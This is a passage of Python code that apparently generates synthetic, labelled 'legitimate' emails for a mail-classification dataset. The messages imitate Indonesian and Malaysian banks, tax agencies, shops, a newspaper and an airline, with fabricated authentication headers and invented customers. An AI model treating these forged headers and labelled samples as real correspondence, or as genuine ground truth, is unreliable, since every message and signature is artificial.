    a = Auth(f"bca@{dom}", "202.6.211.8", "mailer2.bca.co.id", "mailer2.bca.co.id", "pass",
             [(dom, "bcamail", "pass")], "pass", "REJECT", dom, stem)
    ref = digits(stem + "ref", 20)
    rows = [("Tanggal Transaksi", "03 Feb 2025 19:01:58"), ("Jenis Transaksi", "Transfer ke Rekening BCA"),
            ("Rekening Sumber", "xxxxxx4812"), ("Rekening Tujuan", "xxxxxx0937"), ("Nama Penerima", "RATNA SARI"),
            ("Nominal", "IDR 750.000,00"), ("Berita", "arisan feb"), ("No. Referensi", ref)]
    table = "".join(f"<tr><td style='padding:5px 10px 5px 0;color:#555;'>{k}</td><td style='padding:5px 0;'>: {v}</td></tr>"
                    for k, v in rows)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:13px;color:#222;">
<table width="600" cellpadding="0" cellspacing="0" align="center" style="border:1px solid #dde3ea;">
<tr><td style="background:#005eb8;padding:14px 20px;color:#fff;font-size:18px;font-weight:bold;">BCA</td></tr>
<tr><td style="padding:20px;">
<p>Yth. DEWI ANGGRAINI,</p>
<p>Berikut adalah informasi transaksi yang telah Anda lakukan melalui myBCA:</p>
<table cellpadding="0" cellspacing="0" style="font-size:13px;">{table}</table>
<p>Status: <b>BERHASIL</b></p>
<p>Apabila Anda tidak merasa melakukan transaksi ini, segera hubungi Halo BCA 1500888.</p>
<p style="font-size:11px;color:#777;border-top:1px solid #eee;padding-top:10px;">Email ini dikirim secara otomatis,
mohon tidak membalas. BCA tidak pernah meminta data pribadi, PIN, password, maupun kode OTP melalui email, telepon,
SMS, atau media sosial. Waspada terhadap modus penipuan yang mengatasnamakan BCA.<br>
PT Bank Central Asia Tbk terdaftar dan diawasi oleh Otoritas Jasa Keuangan (OJK) dan Bank Indonesia, serta
merupakan peserta penjaminan LPS.</p>
</td></tr></table></body></html>
"""
    plain = ("Yth. DEWI ANGGRAINI,\n\nBerikut adalah informasi transaksi yang telah Anda lakukan melalui myBCA:\n\n"
             + "\n".join(f"{k}: {v}" for k, v in rows) + "\n\nStatus: BERHASIL\n\nApabila Anda tidak merasa melakukan "
             "transaksi ini, segera hubungi Halo BCA 1500888.\n")
    body = Multi("alternative", f"----=_Part_{digits(stem, 6)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}",
                 [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'bcamail', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from notifapp03 (unknown [10.58.12.73])
	by mailer2.bca.co.id (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0700'))}
Date: {format_datetime(at(d, '+0700'))}
From: BCA <bca@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 5)}.{ts(d)}{digits(stem + 'mid3', 3)}@notifapp03>
Subject: Notifikasi Transaksi myBCA - Transfer Berhasil
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine BCA myBCA transfer notification listing a completed transfer with a fraud-warning footer, "
        "sent from BCA's own DKIM-signed mailer", t_gmail(rcpt, d, a, stem), headers, body)


def lg_tokopedia_shipped() -> None:
    stem = f"b{N}-legit-tokopedia-dikirim"
    d = D("2025-04-11 16:24:35 +0700")
    rcpt = "ayu.lestari.putri@gmail.com"
    dom = "tokopedia.com"
    sesid = f"010e0196{hx(stem + 'ses', 8)}-{guid(stem + 'sesg')}-000000"
    a = Auth(f"{sesid}@mail.{dom}", "23.251.227.84", "e227-84.smtp-out.ap-southeast-1.amazonses.com",
             "e227-84.smtp-out.ap-southeast-1.amazonses.com", "pass",
             [(dom, "tkpdses", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")], "pass", "REJECT", dom, stem)
    inv = f"INV/20250409/MPL/{digits(stem + 'inv', 10)}"
    resi = f"JX{digits(stem + 'resi', 10)}"
    order_url = f"https://www.tokopedia.com/order-list?utm_source=email&utm_medium=trx&utm_campaign=shipped_{digits(stem + 'c', 6)}"
    html = brand_html(
        "#03ac0e", "tokopedia", "Pesananmu sudah dikirim!",
        ["Hai Ayu,",
         f"Pesanan dengan nomor invoice <b>{inv}</b> dari toko <b>Sneakers Bandung Official</b> sudah dikirim oleh penjual.",
         '<table width="100%" cellpadding="5" style="font-size:13px;border:1px solid #e5e7e9;">'
         "<tr><td>Produk</td><td>Sepatu Lari Pria Ortuseight Hyperglide 3.0 - Hitam, 42 (1 barang)</td></tr>"
         "<tr><td>Kurir</td><td>J&amp;T Express - Reguler</td></tr>"
         f"<tr><td>No. Resi</td><td>{resi}</td></tr><tr><td>Estimasi tiba</td><td>13 - 15 Apr 2025</td></tr></table>",
         "Kamu bisa lacak status pengiriman di halaman Daftar Transaksi. Jangan lupa klik <b>Selesai</b> setelah "
         "pesanan diterima ya."],
        ("Lacak Pesanan", order_url),
        "Email ini dibuat otomatis, mohon tidak membalas. Tokopedia tidak pernah meminta kode OTP, password, atau "
        "data pribadi lain. Hati-hati terhadap pihak yang mengatasnamakan Tokopedia.<br>PT Tokopedia, Tokopedia Tower "
        "Ciputra World 2, Jl. Prof. DR. Satrio Kav. 11, Jakarta 12950", lang="id")
    plain = (f"Hai Ayu,\n\nPesanan {inv} dari Sneakers Bandung Official sudah dikirim.\nKurir: J&T Express - Reguler\n"
             f"No. Resi: {resi}\nEstimasi tiba: 13 - 15 Apr 2025\n\nLacak: {order_url}\n")
    body = Multi("alternative", boundary(stem, "ses"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'tkpdses', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date', d, c='relaxed/simple')}
{dkim('amazonses.com', 'ihchhvubuqgjsxyuhssfvqohv7z3u4hn', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date:Feedback-ID', d, c='relaxed/simple')}
From: Tokopedia <noreply@{dom}>
To: {rcpt}
Subject: Pesanan {inv} sudah dikirim
MIME-Version: 1.0
Message-ID: <{sesid}@ap-southeast-1.amazonses.com>
Date: {format_datetime(at(d, '+0000'))}
Feedback-ID: ::1.ap-southeast-1.{hash32(stem + 'fb')}:AmazonSES
X-SES-Outgoing: {at(d, '+0000').strftime('%Y.%m.%d')}-23.251.227.84"""
    add(stem, "bulk", "Genuine Tokopedia order-shipped notification with J&T tracking number and a link to the order "
        "list, sent through Amazon SES with a custom MAIL FROM and tokopedia.com DKIM", t_gmail(rcpt, d, a, stem), headers, body)


def lg_djp_bpe() -> None:
    stem = f"b{N}-legit-djp-bpe-spt"
    d = D("2025-03-21 20:15:48 +0700")
    rcpt = "budi.santoso77@yahoo.co.id"
    dom = "pajak.go.id"
    a = Auth(f"noreply@{dom}", "103.28.14.21", "mta2.pajak.go.id", "mta2.pajak.go.id", "pass",
             [(dom, "djp", "pass")], "pass", "NONE", dom, stem)
    ntpe = upper_alnum(stem + "bpe", 16)
    pdfdata = files.pdf(["KEMENTERIAN KEUANGAN REPUBLIK INDONESIA", "DIREKTORAT JENDERAL PAJAK", "",
                         "BUKTI PENERIMAAN ELEKTRONIK", f"Nomor Tanda Terima Elektronik: {ntpe}",
                         "NPWP: 09.xxx.xxx.x-xxx.000", "Nama: BUDI SANTOSO", "Jenis SPT: 1770 S",
                         "Tahun Pajak: 2024", "Status: NIHIL", "Diterima tanggal: 21-03-2025 20:15:31"],
                        title="BPE SPT 1770S 2024")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Arial,sans-serif;font-size:13px;">
<p>Yth. Wajib Pajak BUDI SANTOSO,</p>
<p>Terima kasih telah menyampaikan SPT Tahunan PPh Orang Pribadi melalui layanan DJP Online.</p>
<p>Berikut kami sampaikan Bukti Penerimaan Elektronik (BPE) atas penyampaian SPT Anda:</p>
<table cellpadding="3" style="font-size:13px;">
<tr><td>NTTE</td><td>: {ntpe}</td></tr><tr><td>Jenis SPT</td><td>: 1770 S</td></tr>
<tr><td>Tahun Pajak</td><td>: 2024</td></tr><tr><td>Pembetulan ke</td><td>: 0</td></tr>
<tr><td>Status SPT</td><td>: Nihil</td></tr></table>
<p>BPE terlampir dalam format PDF dan merupakan bukti sah penyampaian SPT. Simpan dokumen ini dengan baik.</p>
<p>Informasi lebih lanjut dapat diperoleh di laman <a href="https://www.pajak.go.id">www.pajak.go.id</a> atau Kring Pajak 1500200.</p>
<p>Hormat kami,<br>Direktorat Jenderal Pajak</p>
<p style="font-size:11px;color:#888;">Email ini dikirimkan secara otomatis oleh sistem DJP Online. Mohon tidak membalas email ini.
DJP tidak pernah meminta data kata sandi, EFIN, atau melakukan penagihan melalui email pribadi maupun pesan WhatsApp.</p>
</div></body></html>
"""
    body = Multi("mixed", f"----=_Part_{digits(stem, 6)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}", [
        qp_html(html), attachment("application/pdf", f"BPE_{ntpe}.pdf", pdfdata)])
    headers = f"""{dkim(dom, 'djp', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from djponline-app07 (unknown [10.245.3.17])
	by mta2.pajak.go.id (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0700'))}
Date: {format_datetime(at(d, '+0700'))}
From: DJP Online <noreply@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 5)}.{ts(d)}{digits(stem + 'mid3', 3)}@djponline-app07>
Subject: Bukti Penerimaan Elektronik SPT Tahunan 1770 S Tahun Pajak 2024
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine DJP Online e-Filing receipt (Bukti Penerimaan Elektronik) for an annual tax return with "
        "the BPE PDF attached, sent from the tax directorate's own signed server", t_yahoo(rcpt, d, a, stem), headers, body)


def lg_id_supplier_invoice() -> None:
    stem = f"b{N}-legit-id-supplier-invoice"
    d = D("2025-05-20 10:36:22 +0700")
    rcpt = "finance@tanjungmas-trading.co.id"
    dom = "majubersamapack.co.id"
    sender = f"rina.kusuma@{dom}"
    a = Auth(sender, "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", "pass",
             [(dom, "google", "pass")], "pass", "NONE", dom, stem)
    inv = f"INV/MBP/2025/05/{digits(stem + 'inv', 4)}"
    pdfdata = files.pdf(["CV MAJU BERSAMA PACKAGING", "Jl. Raya Industri No. 27, Cikarang, Bekasi", "",
                         f"INVOICE {inv}", "Kepada: PT Tanjung Mas Trading", "PO: PO-TMT-2505-118", "",
                         "Kardus double wall 60x40x40  2.000 pcs x Rp 7.850 = Rp 15.700.000",
                         "Lakban coklat 2 inch  200 roll x Rp 9.500 = Rp 1.900.000",
                         "Subtotal Rp 17.600.000  PPN 11% Rp 1.936.000  Total Rp 19.536.000", "",
                         "Pembayaran: BCA 523-0418-771 a.n. CV Maju Bersama Packaging", "Jatuh tempo: 30 hari"],
                        title=inv)
    paras = [
        "Selamat pagi Bu Fitri,", "",
        f"Terlampir invoice {inv} untuk pengiriman kardus dan lakban sesuai PO-TMT-2505-118 yang sudah diterima "
        "gudang Bapak/Ibu tanggal 16 Mei kemarin. Surat jalan yang sudah ditandatangani juga saya lampirkan kembali.", "",
        "Pembayaran seperti biasa ke rekening BCA kami (tidak ada perubahan), jatuh tempo 30 hari.", "",
        "Kalau ada yang kurang sesuai mohon dikabari ya Bu. Terima kasih.", "",
        "Salam,",
    ]
    sig = "Rina Kusuma<br>Admin Keuangan<br>CV Maju Bersama Packaging<br>0812-8844-2071"
    sj = files.pdf(["SURAT JALAN SJ-MBP-0516-03", "Tanggal kirim: 16 Mei 2025", "Diterima oleh: Gudang PT Tanjung Mas Trading",
                    "Kardus 2.000 pcs, lakban 200 roll"], title="Surat Jalan")
    body = Multi("mixed", "000000000000" + hx(stem + "mx", 16), [
        alt(stem, qp_plain("\n".join(paras).replace("<br>", "\n") + "\n\n--\n" + sig.replace("<br>", "\n") + "\n"),
            qp_html(gmail_html(paras, sig))),
        attachment("application/pdf", f"Invoice_{inv.replace('/', '-')}.pdf", pdfdata),
        attachment("application/pdf", "SJ-MBP-0516-03.pdf", sj),
    ])
    headers = f"""{dkim(dom, 'google', stem, 'mime-version:from:date:message-id:subject:to:cc', d)}
X-Gm-Message-State: {b64s(stem + 'gms', 64)}
{gx_received(stem, d)}
MIME-Version: 1.0
From: Rina Kusuma <{sender}>
Date: {rfc(d)}
Message-ID: {gmail_mid(stem)}
Subject: Invoice {inv} - PO-TMT-2505-118
To: {rcpt}
Cc: Fitri Handayani <fitri.handayani@tanjungmas-trading.co.id>"""
    add(stem, "clean", "Genuine Bahasa Indonesia supplier email from a Google Workspace domain attaching an invoice and "
        "delivery note, explicitly stating the bank account is unchanged",
        t_postfix(rcpt, d, a, stem, "mail.tanjungmas-trading.co.id", "+0700", zimbra=True), headers, body)


def lg_kompas_newsletter() -> None:
    stem = f"b{N}-legit-kompas-newsletter"
    d = D("2025-09-01 06:00:14 +0700")
    rcpt = "agus.setiawan.kerja@gmail.com"
    dom = "kompas.id"
    mc = f"mail{digits(stem + 'mc', 3)}.atl{digits(stem + 'atl', 3)}.mcdlv.net"
    mf = f"bounce-mc.us21_{digits(stem + 'u', 8)}.{digits(stem + 'c', 7)}-{hx(stem + 'e', 10)}@{mc}"
    a = Auth(mf, "198.2.180.42", mc, mc, "pass", [(dom, "k2", "pass"), ("mcdlv.net", "k3", "pass")], "pass", "NONE", dom, stem)
    u, lid = hx(stem + "u", 25), hx(stem + "lid", 10)

    def trk(i: int) -> str:
        return f"https://kompas.us21.list-manage.com/track/click?u={u}&id={hx(stem + 'l' + str(i), 10)}&e={hx(stem + 'e', 10)}"

    stories = [
        ("Harga Beras Mulai Turun, Pemerintah Lanjutkan Operasi Pasar hingga Akhir Tahun",
         "Harga beras medium di sejumlah pasar di Jakarta turun Rp 500-Rp 1.000 per kilogram dalam dua pekan terakhir."),
        ("Modus Penipuan Undangan Pernikahan Digital Kembali Marak, Ini Cara Mengenalinya",
         "Pelaku mengirim berkas APK berkedok undangan melalui WhatsApp. Jangan pasang aplikasi dari sumber tak dikenal."),
        ("Timnas Indonesia Bersiap Hadapi Putaran Keempat Kualifikasi Piala Dunia",
         "Pelatih menyiapkan 27 pemain untuk pemusatan latihan di Jakarta mulai pekan depan."),
    ]
    items = "".join(
        f'<tr><td style="padding:14px 0;border-bottom:1px solid #eee;"><a href="{trk(i)}" style="font-size:17px;color:#0b4f8a;'
        f'text-decoration:none;font-weight:bold;">{t}</a><p style="margin:6px 0 0;color:#444;font-size:14px;">{s}</p></td></tr>'
        for i, (t, s) in enumerate(stories))
    html = f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>Kompas Pagi</title></head>
<body style="margin:0;background:#f4f4f4;"><center>
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Georgia,serif;">
<tr><td style="padding:20px;border-bottom:3px solid #0b4f8a;"><img src="https://mcusercontent.com/{u}/images/kompas-id-logo.png" alt="Kompas.id" width="160"></td></tr>
<tr><td style="padding:10px 20px;font-family:Arial,sans-serif;font-size:13px;color:#666;">Senin, 1 September 2025 &middot; Kompas Pagi</td></tr>
<tr><td style="padding:0 20px;"><table width="100%" cellpadding="0" cellspacing="0">{items}</table></td></tr>
<tr><td style="padding:20px;font-family:Arial,sans-serif;font-size:11px;color:#888;">
Anda menerima email ini karena berlangganan newsletter Kompas.id.<br>
<a href="https://kompas.us21.list-manage.com/profile?u={u}&id={lid}&e={hx(stem + 'e', 10)}">Ubah preferensi</a> &middot;
<a href="https://kompas.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(stem + 'e', 10)}&c={hx(stem + 'cc', 10)}">Berhenti berlangganan</a><br>
PT Kompas Media Nusantara, Gedung Kompas Gramedia Unit II Lt. 5, Jl. Palmerah Selatan 26-28, Jakarta 10270</td></tr>
</table></center>
<img src="https://kompas.us21.list-manage.com/track/open.php?u={u}&id={hx(stem + 'op', 10)}&e={hx(stem + 'e', 10)}" height="1" width="1" alt=""></body></html>
"""
    plain = "Kompas Pagi - Senin, 1 September 2025\n\n" + "\n\n".join(f"{t}\n{s}\n{trk(i)}" for i, (t, s) in enumerate(stories)) + \
        f"\n\nBerhenti berlangganan: https://kompas.us21.list-manage.com/unsubscribe?u={u}&id={lid}\n"
    body = Multi("alternative", f"_----------=_MCPart_{digits(stem + 'mcp', 9)}", [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'k2', stem, 'Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC', d)}
{dkim('mcdlv.net', 'k3', stem, 'Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC', d)}
Received: from localhost (localhost [127.0.0.1])
	by {mc} (Mailchimp) with ESMTP id 4cFq{alnum(stem + 'q', 8)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
Subject: Kompas Pagi: Harga Beras Mulai Turun, Waspada Modus Undangan APK
From: "Kompas.id" <newsletter@{dom}>
Reply-To: "Kompas.id" <newsletter@{dom}>
To: <{rcpt}>
Date: {format_datetime(at(d, '+0000'))}
Message-ID: <{hx(stem + 'mid', 20)}.{hx(stem + 'mid2', 10)}@{mc}>
X-Mailer: Mailchimp Mailer - **CID{hx(stem + 'cid', 20)}**
X-Campaign: mailchimp{u}.{hx(stem + 'cc', 10)}
X-campaignid: mailchimp{u}.{hx(stem + 'cc', 10)}
X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={hx(stem + 'cc', 10)}&e={hx(stem + 'e', 10)}
X-MC-User: {u}
Feedback-ID: {digits(stem + 'u', 8)}:{digits(stem + 'u', 8)}.{digits(stem + 'c', 7)}:us21:mc
List-ID: {u}mc list <{u}.{digits(stem + 'lst', 6)}.list-id.mcsv.net>
X-Accounttype: pd
List-Unsubscribe: <https://kompas.us21.list-manage.com/unsubscribe?u={u}&id={lid}&t=h&e={hx(stem + 'e', 10)}&c={hx(stem + 'cc', 10)}>,
 <mailto:unsubscribe-mc.us21_{u}.{hx(stem + 'cc', 10)}-{hx(stem + 'e', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Mime-Version: 1.0"""
    add(stem, "bulk", "Genuine Bahasa Indonesia Kompas.id morning newsletter sent through Mailchimp with tracked "
        "list-manage links and one-click unsubscribe, including a story warning about APK wedding-invitation scams",
        t_gmail(rcpt, d, a, stem), headers, body)


# ---------------------------------------------------------------------------
# LEGITIMATE - Malaysia
# ---------------------------------------------------------------------------

def lg_my_quotation() -> None:
    stem = f"b{N}-legit-my-quotation-request"
    d = D("2024-10-10 11:52:06 +0800")
    rcpt = "jualan@kedaiperabotjaya.com.my"
    sender = "nadia.roslan.hr@gmail.com"
    a = Auth(sender, "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", "pass",
             [("gmail.com", "20230601", "pass")], "pass", "NONE", "gmail.com", stem)
    paras = [
        "Assalamualaikum dan salam sejahtera,", "",
        "Saya Nadia dari Pusat Tuisyen Cemerlang, Seksyen 7 Shah Alam. Kami sedang menyediakan 2 bilik kelas baharu "
        "dan ingin mendapatkan sebut harga untuk perabot berikut:", "",
        "1. Meja pelajar single (dengan laci) - 30 unit",
        "2. Kerusi pelajar plastik (warna biru) - 30 unit",
        "3. Meja guru - 2 unit",
        "4. Papan putih magnetik 4x8 kaki - 2 unit", "",
        "Mohon sertakan sekali harga penghantaran dan pemasangan ke Shah Alam, serta tempoh penghantaran. Kalau "
        "boleh kami perlukan sebelum 1 November.", "",
        "Saya lampirkan pelan susun atur bilik untuk rujukan.", "",
        "Terima kasih.", "",
        "Nadia Roslan", "Pentadbir, Pusat Tuisyen Cemerlang", "012-388 4105",
    ]
    plan = files.photo_jpeg(7, (800, 600))
    body = Multi("mixed", "000000000000" + hx(stem + "mx", 16), [
        alt(stem, qp_plain("\n".join(paras) + "\n"), qp_html(gmail_html(paras))),
        Leaf("image/jpeg", plan, "base64", '; name="pelan_bilik_kelas.jpg"', 'attachment; filename="pelan_bilik_kelas.jpg"',
             [f"X-Attachment-Id: f_m22{alnum(stem + 'att', 6).lower()}0", f"Content-ID: <f_m22{alnum(stem + 'att', 6).lower()}0>"]),
    ])
    headers = f"""{dkim('gmail.com', '20230601', stem, 'to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to', d)}
X-Gm-Message-State: {b64s(stem + 'gms', 64)}
{gx_received(stem, d)}
MIME-Version: 1.0
From: Nadia Roslan <{sender}>
Date: {rfc(d)}
Message-ID: {gmail_mid(stem)}
Subject: Permohonan sebut harga perabot kelas - Pusat Tuisyen Cemerlang
To: {rcpt}"""
    add(stem, "clean", "Genuine Bahasa Melayu quotation request from a tuition centre administrator's Gmail to a furniture "
        "shop, listing items and attaching a room-layout image", t_zoho(rcpt, d, a, stem), headers, body)


def lg_lhdn_ack() -> None:
    stem = f"b{N}-legit-lhdn-efiling-ack"
    d = D("2025-04-22 21:48:31 +0800")
    rcpt = "lim.weiming.my@gmail.com"
    dom = "hasil.gov.my"
    a = Auth(f"noreply@{dom}", "161.142.193.18", "mailgw2.hasil.gov.my", "mailgw2.hasil.gov.my", "pass",
             [(dom, "hasil", "pass")], "pass", "QUARANTINE", dom, stem)
    ref = f"BE{digits(stem + 'ref', 12)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Arial,sans-serif;font-size:13px;color:#222;">
<p><b>LEMBAGA HASIL DALAM NEGERI MALAYSIA</b></p>
<p>Tuan/Puan,</p>
<p><b>PENGESAHAN PENERIMAAN BORANG NYATA CUKAI PENDAPATAN SECARA e-FILING</b></p>
<p>Dengan hormatnya perkara di atas adalah dirujuk.</p>
<p>Pihak Lembaga Hasil Dalam Negeri Malaysia (LHDNM) mengesahkan penerimaan Borang BE Tahun Taksiran 2024 yang telah
dihantar secara e-Filing dengan butiran berikut:</p>
<table cellpadding="3" style="font-size:13px;"><tr><td>Nama</td><td>: LIM WEI MING</td></tr>
<tr><td>No. Rujukan Cukai</td><td>: IG 2xxxxxxx080</td></tr><tr><td>No. Pengesahan</td><td>: {ref}</td></tr>
<tr><td>Tarikh dan Masa Penerimaan</td><td>: 22/04/2025 21:47:55</td></tr></table>
<p>Salinan borang yang dihantar boleh dicetak melalui MyTax di <a href="https://mytax.hasil.gov.my">https://mytax.hasil.gov.my</a>
&gt; e-Filing &gt; Borang Nyata Cukai Pendapatan yang Telah Dihantar.</p>
<p>Sekian, terima kasih.</p>
<p>Lembaga Hasil Dalam Negeri Malaysia</p>
<p style="font-size:11px;color:#777;">E-mel ini dijana oleh komputer. Sila jangan balas. LHDNM tidak akan meminta
maklumat akaun bank atau kata laluan perbankan melalui e-mel atau pautan. Semakan bayaran balik hanya melalui MyTax.</p>
</div></body></html>
"""
    plain = (f"PENGESAHAN PENERIMAAN BORANG NYATA CUKAI PENDAPATAN SECARA e-FILING\n\nLHDNM mengesahkan penerimaan Borang BE "
             f"Tahun Taksiran 2024.\nNo. Pengesahan: {ref}\nTarikh dan Masa Penerimaan: 22/04/2025 21:47:55\n\n"
             "Salinan boleh dicetak melalui https://mytax.hasil.gov.my\n\nLembaga Hasil Dalam Negeri Malaysia\n")
    body = Multi("alternative", f"----=_Part_{digits(stem, 6)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}",
                 [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'hasil', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from efiling-app3.hasil.gov.my (unknown [10.16.40.23])
	by mailgw2.hasil.gov.my (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0800'))}
Date: {format_datetime(at(d, '+0800'))}
From: e-Filing LHDNM <noreply@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 5)}.{ts(d)}{digits(stem + 'mid3', 3)}@efiling-app3>
Subject: Pengesahan Penerimaan Borang BE Tahun Taksiran 2024 secara e-Filing
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine LHDN e-Filing acknowledgement for a Borang BE submission pointing only to the official "
        "MyTax portal, sent from LHDN's signed gateway", t_gmail(rcpt, d, a, stem), headers, body)


def lg_shopee_my() -> None:
    stem = f"b{N}-legit-shopee-my-order"
    d = D("2025-11-11 00:14:52 +0800")
    rcpt = "faizal.rahman@hotmail.com"
    dom = "mail.shopee.com.my"
    sesid = f"010e019a{hx(stem + 'ses', 8)}-{guid(stem + 'sesg')}-000000"
    a = Auth(f"{sesid}@bounce.{dom}", "23.251.234.66", "e234-66.smtp-out.ap-southeast-1.amazonses.com",
             "e234-66.smtp-out.ap-southeast-1.amazonses.com", "pass",
             [(dom, "shopee1", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")], "pass", "REJECT", dom, stem)
    order = f"2511110{upper_alnum(stem + 'ord', 7)}"
    html = brand_html(
        "#ee4d2d", "Shopee", "Your order has been confirmed",
        ["Hi faizalr86,",
         f"Thank you for shopping on Shopee 11.11! Your order <b>#{order}</b> has been confirmed and the seller is "
         "preparing it for shipment.",
         '<table width="100%" cellpadding="5" style="font-size:13px;border:1px solid #eee;">'
         "<tr><td>Xiaomi Redmi Buds 6 Active - Black</td><td align='right'>RM 69.00</td></tr>"
         "<tr><td>Shipping (SPX Express)</td><td align='right'>RM 0.00</td></tr>"
         "<tr><td>Shopee Voucher 11.11</td><td align='right'>- RM 11.00</td></tr>"
         "<tr><td><b>Order Total</b></td><td align='right'><b>RM 58.00</b></td></tr></table>",
         "Payment method: ShopeePay", "You can track your order in the Shopee app under Me &gt; My Purchases."],
        ("View Order", f"https://shopee.com.my/user/purchase/order/{digits(stem + 'oid', 15)}?utm_source=email&utm_medium=transactional"),
        "Shopee will never ask you to make payments outside the Shopee app or share your OTP. Shopee Mobile Malaysia "
        "Sdn. Bhd. (1180424-M), Level 12, Mercu 3, No. 3 Jalan Bangsar, KL Eco City, 59200 Kuala Lumpur.")
    body = Multi("alternative", boundary(stem, "ses"), [
        qp_plain(f"Hi faizalr86,\n\nYour order #{order} has been confirmed. Order Total: RM 58.00 (ShopeePay).\n"), qp_html(html)])
    headers = f"""{dkim(dom, 'shopee1', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date', d, c='relaxed/simple')}
{dkim('amazonses.com', 'ihchhvubuqgjsxyuhssfvqohv7z3u4hn', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date:Feedback-ID', d, c='relaxed/simple')}
From: Shopee <info@{dom}>
To: {rcpt}
Subject: Your Shopee order #{order} has been confirmed
MIME-Version: 1.0
Message-ID: <{sesid}@ap-southeast-1.amazonses.com>
Date: {format_datetime(at(d, '+0000'))}
Feedback-ID: ::1.ap-southeast-1.{hash32(stem + 'fb')}:AmazonSES
X-SES-Outgoing: {at(d, '+0000').strftime('%Y.%m.%d')}-23.251.234.66"""
    add(stem, "bulk", "Genuine Shopee Malaysia 11.11 order confirmation paid with ShopeePay, sent through Amazon SES "
        "with Shopee's own signed mail subdomain",
        t_m365(rcpt, d, a, stem, ctry="SG", consumer=True, region="apcprd03"), headers, body)


def lg_airasia() -> None:
    stem = f"b{N}-legit-airasia-booking"
    d = D("2025-02-14 13:26:10 +0800")
    rcpt = "nurul.aisyah.kamal@gmail.com"
    dom = "airasia.com"
    uid = digits(stem + "uid", 8)
    mf = f"bounces+{uid}-{hx(stem + 'b', 4)}-nurul.aisyah.kamal=gmail.com@em.{dom}"
    a = Auth(mf, "167.89.101.45", f"o5.ptr8102.em.{dom}", f"o5.ptr8102.em.{dom}", "pass",
             [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "REJECT", dom, stem)
    pnr = upper_alnum(stem + "pnr", 6)
    click = f"https://url9482.{dom}/ls/click?upn=u001.{b64s(stem + 'upn', 110).replace('/', '-').replace('+', '_')}"
    html = brand_html(
        "#ff0000", "AirAsia MOVE", f"Booking confirmed - {pnr}",
        ["Hi NURUL AISYAH,", "Your flight is confirmed. Have a great trip!",
         '<table width="100%" cellpadding="6" style="font-size:13px;border:1px solid #eee;">'
         "<tr><td><b>AK 5100</b></td><td>Kuala Lumpur (KUL) T2<br>Fri, 07 Mar 2025, 07:00</td>"
         "<td>Kota Kinabalu (BKI) T1<br>Fri, 07 Mar 2025, 09:40</td></tr>"
         "<tr><td><b>AK 5115</b></td><td>Kota Kinabalu (BKI) T1<br>Mon, 10 Mar 2025, 18:05</td>"
         "<td>Kuala Lumpur (KUL) T2<br>Mon, 10 Mar 2025, 20:50</td></tr></table>",
         "Guest: MS NURUL AISYAH BINTI KAMAL &middot; Checked baggage 20kg &middot; Total paid MYR 412.60",
         "Check in online from 14 days up to 1 hour before departure in the AirAsia MOVE app."],
        ("Manage my booking", click),
        "Capital A Berhad / AirAsia Berhad, RedQuarters, Jalan Pekeliling 5, klia2, 64000 KLIA, Selangor.<br>"
        "This is a service email about your booking.")
    body = Multi("alternative", boundary(stem, "sendgrid"), [
        qp_plain(f"Hi NURUL AISYAH,\n\nBooking confirmed - {pnr}\nAK 5100 KUL-BKI Fri 07 Mar 2025 07:00\nAK 5115 BKI-KUL "
